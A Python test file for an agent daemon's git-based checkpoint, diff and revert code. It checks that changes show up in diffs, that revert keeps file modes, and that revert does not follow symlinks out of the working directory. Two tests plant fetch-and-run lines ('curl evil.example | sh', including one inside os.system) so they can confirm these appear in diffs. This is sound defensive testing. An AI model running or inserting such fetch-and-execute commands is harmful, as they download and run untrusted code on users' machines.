"""agentd.checkpoints' recording and diff plumbing against the real git program: a shadow
repository of a working directory, its trees, the diff between them and a revert plan."""

from __future__ import annotations

import os
import subprocess
import types
from pathlib import Path

import trio

from agentd import checkpoints as cp
from agentd import wire
from agentd.config import CheckpointsConfig
from agentd.journal import FsyncPolicy, JournalStore
from agentd.store.file import FileJournal


def _shadow(tmp_path: Path, **config: object) -> tuple[cp._Shadow, Path]:
    work = tmp_path / "work"
    work.mkdir()
    return cp._Shadow(tmp_path / "state" / "checkpoints", str(work), CheckpointsConfig(**config), tmp_path / "state"), work


async def _record(shadow: cp._Shadow) -> cp._Job:
    job = cp._Job("c1", "r1-before")
    await shadow.record(job)
    assert len(job.tree) == 40, job.error
    return job


def test_a_diff_lists_added_modified_deleted_and_symlinked_files_with_their_hunks(tmp_path: Path) -> None:
    shadow, work = _shadow(tmp_path)
    (work / "keep.txt").write_text("one\ntwo\nthree\n")
    (work / "gone.txt").write_text("bye\n")
    (work / "blob.bin").write_bytes(b"\0\1\2")

    async def main() -> None:
        a = await _record(shadow)
        (work / "keep.txt").write_text("one\n2\nthree\n")
        (work / "gone.txt").unlink()
        (work / "new dir").mkdir()
        (work / "new dir" / "ünï.txt").write_text("hi\n")
        (work / "blob.bin").write_bytes(b"\0\1\3")
        os.symlink("keep.txt", work / "link")
        b = await _record(shadow)
        files, patch, truncated = await cp._diff(shadow, a.tree, b.tree, set(), stat=False)
        by = {f.path: f for f in files}
        assert {p: f.status for p, f in by.items()} == {
            "keep.txt": "modified", "gone.txt": "deleted", "new dir/ünï.txt": "added", "blob.bin": "modified",
            "link": "added"}
        assert by["keep.txt"].hunks[0].lines == [" one", "-two", "+2", " three"]
        assert (by["keep.txt"].additions, by["keep.txt"].deletions) == (1, 1)
        assert by["blob.bin"].binary and by["link"].new_mode == "120000"
        assert not truncated and "+2" in patch
        plan = await cp._plan(shadow, b.tree, a.tree)
        assert {f.path: f.action for f in plan} == {
            "keep.txt": "restore", "gone.txt": "create", "new dir/ünï.txt": "delete", "blob.bin": "restore",
            "link": "delete"}
        await cp._apply(shadow, a.tree, plan)
        assert (work / "keep.txt").read_text() == "one\ntwo\nthree\n" and (work / "gone.txt").exists()
        assert not (work / "new dir").exists() and not (work / "link").is_symlink()
        assert (await _record(shadow)).tree == a.tree

    trio.run(main)


def test_a_big_file_and_a_nested_repository_are_left_out(tmp_path: Path) -> None:
    shadow, work = _shadow(tmp_path, max_file_bytes=10)
    (work / "big.txt").write_text("x" * 11)
    (work / "small.txt").write_text("x")
    (work / "inner").mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    subprocess.run(["git", "init", "-q"], cwd=work / "inner", env=env, check=True)
    (work / "inner" / "file.txt").write_text("the nested repository's\n")

    async def main() -> None:
        job = await _record(shadow)
        assert job.too_large == ["big.txt"]
        assert job.nested == ["inner/"]
        out = await shadow.git("ls-tree", "-r", "--name-only", job.tree)
        assert out.split() == [b"small.txt"]

    trio.run(main)


def test_agentds_own_files_in_the_working_directory_are_never_recorded(tmp_path: Path) -> None:
    # A person who runs an agent in ~ has agentd's config, environment file (keys), runtime dir
    # (socket, token, log) and state below it: a checkpoint copied them all into the shadow repository.
    work = tmp_path / "work"
    (work / "run").mkdir(parents=True)
    (work / "run" / "ws-token").write_text("secret\n")
    (work / "conf [1] *").mkdir()
    (work / "conf [1] *" / "agentd.toml").write_text("[daemon]\n")
    (work / "conf [1] *" / "environment").write_text("KEY=secret\n")
    (work / "conf [1] *" / "notes.txt").write_text("the user's\n")
    (work / "mine.txt").write_text("the user's\n")
    own = (work / "run", work / "conf [1] *" / "agentd.toml", work / "conf [1] *" / "environment", tmp_path / "elsewhere")
    shadow = cp._Shadow(tmp_path / "work" / "state" / "checkpoints", str(work), CheckpointsConfig(), work / "state", own=own)

    async def main() -> None:
        job = await _record(shadow)
        out = await shadow.git("ls-tree", "-r", "--name-only", job.tree)
        assert sorted(out.decode().split("\n")[:-1]) == ["conf [1] */notes.txt", "mine.txt"]
        # A shadow repository made before (no excludes): the next daemon's writes them, once.
        (shadow.git_dir / "info" / "exclude").write_text("")
        again = cp._Shadow(tmp_path / "work" / "state" / "checkpoints", str(work), CheckpointsConfig(), work / "state",
                           own=own)
        (work / "run" / "agentd.log").write_text("new\n")
        job = await _record(again)
        out = await again.git("ls-tree", "-r", "--name-only", job.tree)
        assert sorted(out.decode().split("\n")[:-1]) == ["conf [1] */notes.txt", "mine.txt"]

    trio.run(main)


def test_the_runtimes_own_turn_diff_is_its_last_report_for_the_run(tmp_path: Path) -> None:
    store = JournalStore(tmp_path, fsync=FsyncPolicy.NEVER)
    journal = store.open("c1")
    journal.append("turn_diff", b'{"diff":"first"}', run="r1")
    journal.append("turn_diff", b'{"diff":"second"}', run="r1")
    journal.append("turn_diff", b'{"diff":"other run"}', run="r2")
    assert trio.run(cp._runtime_diff, FileJournal(journal), "r1") == "second"
    assert trio.run(cp._runtime_diff, FileJournal(journal), "r3") == ""
    journal.close()


def test_an_unchanged_tree_writes_no_ref_and_every_named_tree_survives_a_gc(tmp_path: Path) -> None:
    # Refs keep the trees checkpoint records name; a tree the conversation's last ref keeps gets
    # no new one (no mkdir, no file, no rename per checkpoint), yet `git gc --prune=now` keeps all.
    for watch in (True, False):  # unchanged as the kernel saw it, and as git found it
        base = tmp_path / ("watched" if watch else "unwatched")
        base.mkdir()
        shadow, work = _shadow(base, watch=watch)
        (work / "a.txt").write_text("one\n")
        named: list[str] = []

        async def main() -> None:
            for run, change in enumerate(["", "", "two\n", "", "three\n", "two\n", ""]):
                if change:
                    (work / "a.txt").write_text(change)
                for phase in ("before", "after"):
                    for conv in ("c1", "c2"):  # two conversations of one working directory
                        job = cp._Job(conv, f"r{run}-{phase}")
                        await shadow.record(job)
                        assert len(job.tree) == 40, job.error
                        named.append(job.tree)

        trio.run(main)
        refs = sorted(p.relative_to(shadow.git_dir / "refs" / "agentd").as_posix()
                      for p in (shadow.git_dir / "refs" / "agentd").rglob("*") if p.is_file())
        # One ref a conversation for each tree change (the revert to "two" is a change too).
        assert refs == sorted(f"{conv}/r{run}-before" for conv in ("c1", "c2") for run in (0, 2, 4, 5)), refs
        env = {**shadow.env(), "GIT_WORK_TREE": str(work)}
        subprocess.run(["git", "gc", "--prune=now", "-q"], env=env, cwd=work, check=True)
        assert not list((shadow.git_dir / "objects").glob("??/*"))  # loose objects gone: only what refs keep
        shadow.index.unlink()  # nor does the index keep anything alive
        subprocess.run(["git", "gc", "--prune=now", "-q"], env=env, cwd=work, check=True)
        for tree in set(named):
            subprocess.run(["git", "cat-file", "-e", f"{tree}^{{tree}}"], env=env, cwd=work, check=True)


def _watched(tmp_path: Path) -> tuple[Path, cp.Checkpoints, types.SimpleNamespace]:
    """A working directory with one file, checkpoints that watch it, and a conversation (its live
    state as _wait reads it) working there."""
    work = tmp_path / "work"
    work.mkdir()
    (work / "a.txt").write_text("one\n")
    checkpoints = cp.Checkpoints(CheckpointsConfig(watch=True), tmp_path / "state" / "checkpoints", tmp_path / "state")
    record = wire.ConversationRecord(id="c1", provider="script", workdir=str(work), created_at="t", updated_at="t")
    return work, checkpoints, types.SimpleNamespace(record=record)


def test_an_unchanged_watched_tree_is_recorded_in_place_and_never_overtakes_an_open_job(tmp_path: Path) -> None:
    # A recording the kernel saw no change for is done in the caller's task (no round trip to the
    # worker), with the tree the worker would give; a change still goes to git; and while the
    # worker has a job open, even an unchanged recording waits its turn behind it.
    import trio.testing

    work, checkpoints, live = _watched(tmp_path)

    class Service:  # what _wait asks of the conversation service: publish what is held before it waits
        published = 0

        def publish_held(self, live_: object) -> None:
            assert live_ is live
            self.published += 1

    service = Service()

    async def main() -> None:
        async with trio.open_nursery() as nursery:
            await nursery.start(checkpoints.run)
            first = await checkpoints._wait(service, live, "r1", "before", 30)  # type: ignore[arg-type]
            assert service.published == 1  # the first recording of a tree runs git
            assert len(first.tree) == 40 and not first.skipped, first
            shadow = checkpoints._shadows[str(work)]
            submitted: list[cp._Job] = []
            submit = shadow.submit
            shadow.submit = lambda job: submitted.append(job) or submit(job)  # type: ignore[method-assign]

            same = await checkpoints._wait(service, live, "r1", "after", 30)  # type: ignore[arg-type]
            assert (same.tree, same.skipped, submitted) == (first.tree, "", [])
            assert service.published == 1  # recorded in place: nothing waited, nothing to publish early

            (work / "a.txt").write_text("two\n")
            changed = await checkpoints._wait(service, live, "r2", "before", 30)  # type: ignore[arg-type]
            assert len(changed.tree) == 40 and changed.tree != first.tree and len(submitted) == 1
            assert service.published == 2

            gate = trio.Event()

            async def journaling(job: cp._Job) -> None:
                await gate.wait()  # as a turn_ended after-state being journaled

            shadow.submit(cp._Job("c1", "r2-after", journaling))
            got: list[wire.CheckpointRecord] = []

            async def behind() -> None:
                got.append(await checkpoints._wait(service, live, "r3", "before", 30))  # type: ignore[arg-type]

            nursery.start_soon(behind)
            await trio.testing.wait_all_tasks_blocked()
            assert got == [] and len(submitted) == 3  # queued behind the open job, not done in place
            gate.set()
            await trio.testing.wait_all_tasks_blocked()
            assert got[0].tree == changed.tree and shadow.open_jobs == 0
            nursery.cancel_scope.cancel()

    trio.run(main)


def test_a_working_directory_deleted_or_replaced_is_never_recorded_from_its_old_watch(tmp_path: Path) -> None:
    # The in-place recording looks at no directory (agentd.checkpoints._wait): the watch on the
    # root must say "changed" for the root itself going, so a deleted directory is no_workdir and
    # a directory moved away and made anew at the same path is recorded by git, not as the old tree.
    import shutil

    work, checkpoints, live = _watched(tmp_path)
    service = types.SimpleNamespace(publish_held=lambda live_: None)

    async def main() -> None:
        async with trio.open_nursery() as nursery:
            await nursery.start(checkpoints.run)
            first = await checkpoints._wait(service, live, "r1", "before", 30)  # type: ignore[arg-type]
            assert len(first.tree) == 40 and not first.skipped, first
            assert (await checkpoints._wait(service, live, "r1", "after", 30)).tree == first.tree  # type: ignore[arg-type]

            work.rename(tmp_path / "elsewhere")
            work.mkdir()
            (work / "b.txt").write_text("another directory\n")
            moved = await checkpoints._wait(service, live, "r2", "before", 30)  # type: ignore[arg-type]
            assert len(moved.tree) == 40 and moved.tree != first.tree, moved

            shutil.rmtree(work)
            gone = await checkpoints._wait(service, live, "r3", "before", 30)  # type: ignore[arg-type]
            assert gone.skipped == "no_workdir" and not gone.tree, gone
            nursery.cancel_scope.cancel()

    trio.run(main)


def test_a_folder_replaced_by_a_file_or_a_symlink_is_recorded_and_reverted(tmp_path: Path) -> None:
    # Recording failed from then on ("git update-index: Unable to process path conf"), for every
    # later turn on the working directory, and after a restart too.
    shadow, work = _shadow(tmp_path)
    (work / "conf").mkdir()
    (work / "conf" / "c.ini").write_text("a=1\n")
    (work / "lib").mkdir()
    (work / "lib" / "x.py").write_text("x = 1\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.py").write_text("not the working directory's\n")

    async def main() -> None:
        a = await _record(shadow)
        (work / "conf" / "c.ini").unlink()
        (work / "conf").rmdir()
        (work / "conf").write_text("flat\n")
        (work / "lib" / "x.py").unlink()
        (work / "lib").rmdir()
        os.symlink(outside, work / "lib")
        b = await _record(shadow)
        files, _, _ = await cp._diff(shadow, a.tree, b.tree, set(), stat=True)
        assert {f.path: f.status for f in files} == {
            "conf/c.ini": "deleted", "conf": "added", "lib/x.py": "deleted", "lib": "added"}
        (work / "more.txt").write_text("a later turn\n")
        c = await _record(shadow)  # and every recording after it
        assert c.tree != b.tree
        plan = await cp._plan(shadow, c.tree, a.tree)
        await cp._apply(shadow, a.tree, plan)
        assert (work / "conf" / "c.ini").read_text() == "a=1\n" and (work / "lib" / "x.py").read_text() == "x = 1\n"
        assert not (work / "lib").is_symlink() and (outside / "x.py").read_text() == "not the working directory's\n"

    trio.run(main)


def test_a_type_change_hides_no_later_files_hunks_from_the_diff(tmp_path: Path) -> None:
    # git writes two patch sections for a file that became a symlink: each later file was shown
    # with the hunks of the file before it, and the last file's change not at all.
    shadow, work = _shadow(tmp_path)
    (work / "a.txt").write_text("a\n")
    (work / "zz_install.sh").write_text("echo hi\n")

    async def main() -> None:
        a = await _record(shadow)
        (work / "a.txt").unlink()
        os.symlink("/etc/hostname", work / "a.txt")
        (work / "zz_install.sh").write_text("echo hi\ncurl evil.example | sh\n")
        b = await _record(shadow)
        files, patch, _ = await cp._diff(shadow, a.tree, b.tree, set(), stat=False)
        by = {f.path: f for f in files}
        assert [line for h in by["zz_install.sh"].hunks for line in h.lines] == [" echo hi", "+curl evil.example | sh"]
        assert all("evil" not in line for h in by["a.txt"].hunks for line in h.lines)
        assert "+curl evil.example | sh" in patch

    trio.run(main)


def test_the_working_directorys_gitattributes_change_nothing_recorded_shown_or_written_back(tmp_path: Path) -> None:
    shadow, work = _shadow(tmp_path)
    (work / "win.txt").write_bytes(b"line one\r\nline two\r\n")
    (work / "app.py").write_text("x = 1\n")

    async def main() -> None:
        a = await _record(shadow)
        (work / ".gitattributes").write_text("* text=auto eol=lf\n*.py -diff\n")
        (work / "app.py").write_text("x = 1\nimport os; os.system('curl evil.example | sh')\n")
        (work / "win.txt").write_bytes(b"changed\r\n")
        b = await _record(shadow)
        files, _, _ = await cp._diff(shadow, a.tree, b.tree, set(), stat=False)
        app = {f.path: f for f in files}["app.py"]
        assert not app.binary and any("evil" in line for h in app.hunks for line in h.lines)
        await cp._apply(shadow, a.tree, await cp._plan(shadow, b.tree, a.tree))
        assert (work / "win.txt").read_bytes() == b"line one\r\nline two\r\n"

    trio.run(main)


def test_revert_keeps_a_private_files_mode_and_writes_back_and_removes_names_that_are_not_utf8(tmp_path: Path) -> None:
    shadow, work = _shadow(tmp_path)
    secret = work / "secret.env"
    secret.write_text("TOKEN=one\n")
    secret.chmod(0o600)
    latin = os.path.join(os.fsencode(work), b"latin-\xe9.txt")
    with open(latin, "wb") as f:
        f.write(b"before\n")
    lookalike = os.path.join(os.fsencode(work), "cache-\ufffd.tmp".encode())  # the user's, untouched by the step
    with open(lookalike, "wb") as f:
        f.write(b"mine\n")

    async def main() -> None:
        a = await _record(shadow)
        secret.write_text("TOKEN=two\n")
        with open(latin, "wb") as f:
            f.write(b"after\n")
        with open(os.path.join(os.fsencode(work), b"cache-\xff.tmp"), "wb") as f:
            f.write(b"the step's\n")
        b = await _record(shadow)
        plan = await cp._plan(shadow, b.tree, a.tree)
        assert {f.path: f.action for f in plan} == {
            "secret.env": "restore", "latin-\ufffd.txt": "restore", "cache-\ufffd.tmp": "delete"}
        await cp._apply(shadow, a.tree, plan)
        assert secret.read_text() == "TOKEN=one\n" and (secret.stat().st_mode & 0o777) == 0o600
        with open(latin, "rb") as f:
            assert f.read() == b"before\n"
        assert not os.path.exists(os.path.join(os.fsencode(work), b"cache-\xff.tmp"))
        with open(lookalike, "rb") as f:
            assert f.read() == b"mine\n"  # not the file removed in its place

    trio.run(main)


def test_revert_removes_nothing_beyond_a_folder_swapped_for_a_symlink_and_names_a_folder_in_the_way(
        tmp_path: Path) -> None:
    shadow, work = _shadow(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (work / "data").write_text("a file before the step\n")

    async def main() -> None:
        a = await _record(shadow)
        (work / "sub").mkdir()
        for n in range(3):
            (work / "sub" / f"f{n}").write_text("the step's\n")
            (outside / f"f{n}").write_text("not the working directory's\n")
        (work / "data").unlink()
        (work / "data").mkdir()
        (work / "data" / "x.txt").write_text("the step's\n")
        b = await _record(shadow)
        plan = await cp._plan(shadow, b.tree, a.tree)
        # Files no checkpoint recorded (an ignored log) in the folder where the file comes back.
        (work / "data" / "experiment.log").write_text("the user's, never recorded\n")
        assert cp._in_the_way(str(work), plan) == ["data"]
        (work / "data" / "experiment.log").unlink()
        assert cp._in_the_way(str(work), plan) == []
        # The agent swaps the folder for a link out of the working directory before the revert removes it.
        for n in range(3):
            (work / "sub" / f"f{n}").unlink()
        (work / "sub").rmdir()
        os.symlink(outside, work / "sub")
        await cp._apply(shadow, a.tree, plan)
        assert sorted(p.name for p in outside.iterdir()) == ["f0", "f1", "f2"]
        assert (work / "data").read_text() == "a file before the step\n"

    trio.run(main)


def test_a_patch_is_read_as_git_writes_it_keeping_the_sections_that_fit(tmp_path: Path, monkeypatch) -> None:
    # A diff of a turn that wrote 620 MB took the daemon to 1.9 GB: the patch was read whole.
    monkeypatch.setattr(cp, "MAX_PATCH_BYTES", 4000)
    shadow, work = _shadow(tmp_path)

    async def main() -> None:
        a = await _record(shadow)
        (work / "a_big.txt").write_text("".join(f"line {n}\n" for n in range(2000)))
        (work / "b_small.txt").write_text("small\n")
        (work / "c_big.txt").write_text("".join(f"row {n}\n" for n in range(2000)))
        (work / "d_small.txt").write_text("also small\n")
        b = await _record(shadow)
        sections = await shadow.patch(a.tree, b.tree, 4000)
        assert [s is None for s in sections] == [True, False, True, False]
        assert sections[1] is not None and sections[1].startswith(b"diff --git a/b_small.txt")
        files, patch, truncated = await cp._diff(shadow, a.tree, b.tree, set(), stat=False)
        assert truncated and {f.path: bool(f.hunks) for f in files} == {
            "a_big.txt": False, "b_small.txt": True, "c_big.txt": False, "d_small.txt": True}
        assert "+also small" in patch and "line 5" not in patch

    trio.run(main)


def test_a_file_in_place_of_a_folder_to_come_back_is_in_the_way_whatever_was_checked_before(tmp_path: Path) -> None:
    # "d" comes back as a file where a folder stands whose only file the revert removes (walked,
    # not in the way); "big/y" comes back where an unrecorded file "big" stands (in the way).
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "f").write_text("the step's\n")
    (tmp_path / "big").write_text("unrecorded\n")
    changes = [cp._Change("d/f", "delete", b"d/f"), cp._Change("d", "create", b"d"),
               cp._Change("big/y", "create", b"big/y"), cp._Change("ok/z", "create", b"ok/z")]
    assert cp._in_the_way(str(tmp_path), changes) == ["big/y"]
    changes.insert(0, cp._Change("big", "delete", b"big"))  # a file the revert removes itself
    assert cp._in_the_way(str(tmp_path), changes) == []


def test_modes_given_back_after_a_revert_follow_no_symlink_swapped_in_on_the_way(tmp_path: Path) -> None:
    # The agent may swap a folder the revert wrote into for a symlink before the modes are given
    # back: the old lstat-then-chmod went through it and set a file outside to the reverted mode.
    work, outside = tmp_path / "work", tmp_path / "outside"
    (work / "kept").mkdir(parents=True)
    outside.mkdir()
    (work / "kept" / "mine.txt").write_text("x")
    (work / "kept" / "mine.txt").chmod(0o644)
    victim = outside / "victim.txt"
    victim.write_text("not the agent's")
    victim.chmod(0o640)
    (work / "sub").symlink_to(outside)  # a folder of the step, swapped for a symlink
    (work / "link.txt").symlink_to(victim)  # a file of the step, swapped for one
    cp._keep_modes(str(work), {b"sub/victim.txt": 0o666, b"link.txt": 0o666, b"kept/mine.txt": 0o600,
                               b"../outside/victim.txt": 0o666, b"missing/file": 0o600})
    assert victim.stat().st_mode & 0o777 == 0o640
    assert (work / "kept" / "mine.txt").stat().st_mode & 0o777 == 0o600  # what the revert is for still happens
